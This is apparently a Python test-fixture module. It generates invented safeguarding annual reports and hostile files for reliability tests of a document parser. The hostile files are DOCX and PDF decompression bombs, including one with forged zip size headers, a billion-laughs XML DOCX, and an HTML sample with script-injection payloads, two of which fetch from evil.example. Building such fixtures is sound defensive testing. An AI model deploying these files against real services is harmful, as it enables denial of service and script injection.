"""Generators for the reliability tests: many distinct small reports, and hostile files of every kind."""

from __future__ import annotations

import random
import zipfile
from pathlib import Path

SYLLABLES = [
    "ash", "brook", "cal", "dun", "el", "fen", "gar", "holm", "ing", "kel", "lin", "mar",
    "nor", "ock", "pen", "quar", "ros", "stan", "thorn", "ul", "ven", "wick", "yar", "zel",
]  # fmt: skip
TOPICS = [
    ("Referrals", "referrals to the front door"),
    ("Early help", "families supported by early help"),
    ("Child protection", "children subject to a child protection plan"),
    ("Looked after children", "children looked after by the council"),
    ("Training", "practitioners trained by the partnership"),
    ("Missing children", "episodes of children missing from home"),
    ("Private fostering", "private fostering arrangements notified"),
    ("Exploitation", "young people assessed for criminal exploitation"),
]
VERBS = ["rose to", "fell to", "reached", "stood at", "was recorded as", "increased to", "decreased to"]
FRAMES = [
    "In {place} the number of {what} {verb} {n:,} during {period}.",
    "The {place} partnership reported that {pct}% of {what} were reviewed within {days} days.",
    "Partners in {place} agreed that {what} would be audited every {days} days by the {word} group.",
    "A {word} review in {place} found {n:,} {what}, compared with {m:,} the year before.",
    "The {word} panel of {place} met {k} times to consider {what}.",
    "Funding of £{money:,} was set aside in {place} for work on {what}.",
]
WORDS = ["quality", "audit", "scrutiny", "practice", "learning", "assurance", "performance", "strategy"]


def place_name(index: int) -> str:
    """A distinct invented place name per index (no two documents share their main search term)."""
    first = SYLLABLES[index % len(SYLLABLES)]
    second = SYLLABLES[(index // len(SYLLABLES) + 7) % len(SYLLABLES)]
    return (first + second + "ford").capitalize()


def report_text(index: int, sections: int = 4, sentences: int = 6, seed: int = 0) -> str:
    rng = random.Random(index * 1000 + seed)
    place = place_name(index)
    year = 2015 + index % 8
    period = f"{year}/{str(year + 1)[-2:]}"
    lines = [f"{place} Safeguarding Children Partnership: Annual Report {period}", ""]
    for number in range(1, sections + 1):
        title, what = TOPICS[(index + number) % len(TOPICS)]
        lines += [f"{number}. {title} in {place}", ""]
        body = []
        for _ in range(sentences):
            body.append(
                rng.choice(FRAMES).format(
                    place=place,
                    what=what,
                    verb=rng.choice(VERBS),
                    n=rng.randint(100, 9000),
                    m=rng.randint(100, 9000),
                    pct=rng.randint(5, 99),
                    days=rng.choice([10, 15, 20, 28, 45]),
                    word=rng.choice(WORDS),
                    k=rng.randint(2, 12),
                    money=rng.randint(10, 900) * 1000,
                    period=period,
                )
            )
        lines += [" ".join(body), ""]
    return "\n".join(lines)


def write_reports(folder: Path, count: int, start: int = 0, **kw) -> dict[str, str]:
    """`count` distinct reports, alternating .txt and .md; returns {doc_id: place name}."""
    folder.mkdir(parents=True, exist_ok=True)
    made = {}
    for index in range(start, start + count):
        name = f"report-{index:03d}.{'md' if index % 2 else 'txt'}"
        (folder / name).write_text(report_text(index, **kw), encoding="utf-8")
        made[name] = place_name(index)
    return made


# -- hostile files ---------------------------------------------------------------------------------
def write_text_pdf(path: Path, pages: list[list[str]]) -> Path:
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    pdf = canvas.Canvas(str(path), pagesize=A4)
    for lines in pages:
        pdf.setFont("Helvetica", 11)
        y = A4[1] - 80
        for line in lines:
            pdf.drawString(60, y, line)
            y -= 20
        pdf.showPage()
    pdf.save()
    return path


def write_image_only_pdf(path: Path) -> Path:
    """A scanned-looking page: shapes and an embedded image, no text layer at all."""
    from reportlab.lib.pagesizes import A4
    from reportlab.lib.utils import ImageReader
    from reportlab.pdfgen import canvas

    pdf = canvas.Canvas(str(path), pagesize=A4)
    pdf.setFillGray(0.4)
    pdf.rect(60, 400, 300, 200, fill=1)
    pixels = bytes((x * y) % 256 for y in range(64) for x in range(64))
    from PIL import Image

    pdf.drawImage(ImageReader(Image.frombytes("L", (64, 64), pixels)), 100, 100, 128, 128)
    pdf.showPage()
    pdf.save()
    return path


def write_many_page_pdf(path: Path, pages: int) -> Path:
    """A PDF of `pages` text pages (one page cloned), cheap to make however long it is."""
    from pypdf import PdfReader, PdfWriter

    one = write_text_pdf(path.with_name("one-" + path.name), [["Page text about referrals to the front door."]])
    page = PdfReader(str(one)).pages[0]
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_page(page)
    with open(path, "wb") as handle:
        writer.write(handle)
    one.unlink()
    return path


def write_truncated_pdf(path: Path, source: Path) -> Path:
    data = source.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path


def write_encrypted(path: Path, source: Path) -> Path:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(str(source)))
    writer.encrypt(user_password="secret", owner_password="owner")
    with open(path, "wb") as handle:
        writer.write(handle)
    return path


def write_random_bytes(path: Path, size: int = 200_000, seed: int = 7) -> Path:
    path.write_bytes(random.Random(seed).randbytes(size))
    return path


DOCX_BODY_START = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
)
DOCX_BODY_END = b"</w:body></w:document>"


def write_docx_bomb(path: Path, expanded_mb: int = 300, block: bytes = b" " * (1 << 20)) -> Path:
    """A real DOCX whose word/document.xml inflates to `expanded_mb` MB of `block` (whitespace by default): a
    small file that expands far beyond its size."""
    import docx

    skeleton = path.with_name("skeleton-" + path.name)
    document = docx.Document()
    document.add_paragraph("A protocol that is about to become very large.")
    document.save(str(skeleton))
    with zipfile.ZipFile(skeleton) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            if info.filename != "word/document.xml":
                archive.writestr(info, source.read(info))
                continue
            with archive.open("word/document.xml", "w") as member:
                member.write(DOCX_BODY_START)
                for _ in range(expanded_mb):
                    member.write(block)
                member.write(DOCX_BODY_END)
    skeleton.unlink()
    return path


def write_paragraph_bomb_docx(path: Path, expanded_mb: int = 150) -> Path:
    """A real DOCX whose word/document.xml is `expanded_mb` MB of short paragraphs (half a MB on disk)."""
    paragraph = b"<w:p><w:r><w:t>Referrals to the front door.</w:t></w:r></w:p>"
    return write_docx_bomb(path, expanded_mb, paragraph * ((1 << 20) // len(paragraph)))


def write_lying_docx_bomb(path: Path, expanded_mb: int = 300) -> Path:
    """The same bomb, but its headers claim word/document.xml holds 1 KB, so a check of the declared sizes
    alone lets it through; only inflating it shows its true size."""
    write_docx_bomb(path, expanded_mb)
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo("word/document.xml")
    data = bytearray(path.read_bytes())
    small = (1024).to_bytes(4, "little")
    local = info.header_offset
    assert data[local : local + 4] == b"PK\x03\x04"
    data[local + 22 : local + 26] = small  # local header: uncompressed size
    name = info.filename.encode()
    central = data.find(b"PK\x01\x02")
    while central != -1:
        length = int.from_bytes(data[central + 28 : central + 30], "little")
        if data[central + 46 : central + 46 + length] == name:
            data[central + 24 : central + 28] = small  # central directory: uncompressed size
            break
        central = data.find(b"PK\x01\x02", central + 4)
    assert central != -1
    path.write_bytes(bytes(data))
    return path


HOSTILE_HTML = """<!doctype html>
<html><head><title>Harbourside neglect strategy</title>
<script>var secret = "SCRIPTPAYLOAD-7731"; document.write(secret);</script>
<style>.x { content: "STYLEPAYLOAD-5521"; }</style></head>
<body onload="alert('ONLOADPAYLOAD-1187')">
<h1>Harbourside neglect strategy 2023/24</h1>
<p onclick="steal('CLICKPAYLOAD-9034')">1. Purpose</p>
<p>Harbourside partners will use the graded care profile with every family where neglect is suspected.</p>
<img src="x" onerror="fetch('https://evil.example/?IMGPAYLOAD-4410')">
<p>2. Measures</p>
<p>In 2023/24 Harbourside completed 412 graded care profile assessments across the borough.</p>
<script type="module">import('https://evil.example/MODULEPAYLOAD-2208.js')</script>
<a href="javascript:alert('HREFPAYLOAD-6675')">more</a>
</body></html>
"""
HTML_PAYLOADS = ["SCRIPTPAYLOAD", "STYLEPAYLOAD", "ONLOADPAYLOAD", "CLICKPAYLOAD", "IMGPAYLOAD", "MODULEPAYLOAD"]
HTML_PAYLOADS += ["HREFPAYLOAD", "<script", "javascript:"]


def write_billion_laughs_docx(path: Path) -> Path:
    """A DOCX whose document.xml defines nested entities that would expand to ~3 GB if resolved."""
    import docx

    skeleton = path.with_name("skeleton-" + path.name)
    docx.Document().save(str(skeleton))
    entities = ['<!ENTITY lol0 "lollollollollollollollollollol">']
    entities += [f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 9)]
    body = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f"<!DOCTYPE w:document [{''.join(entities)}]>\n"
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
        "<w:p><w:r><w:t>1. Purpose</w:t></w:r></w:p>"
        "<w:p><w:r><w:t>Laughton partners review every neglect case within 20 days. &lol8;</w:t></w:r></w:p>"
        "</w:body></w:document>"
    ).encode()
    with zipfile.ZipFile(skeleton) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            data = body if info.filename == "word/document.xml" else source.read(info)
            archive.writestr(info.filename, data)
    skeleton.unlink()
    return path


def write_flate_bomb_pdf(path: Path, expanded_mb: int = 200) -> Path:
    """A one-page PDF whose content stream is a few hundred KB of Flate data inflating to `expanded_mb` MB."""
    import zlib

    packer = zlib.compressobj(9)
    parts = [packer.compress(b"BT /F1 12 Tf 72 712 Td (Compressed page text about neglect) Tj ET\n")]
    block = b" " * (1 << 20)
    parts += [packer.compress(block) for _ in range(expanded_mb)]
    parts.append(packer.flush())
    stream = b"".join(parts)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    path.write_bytes(bytes(out))
    return path
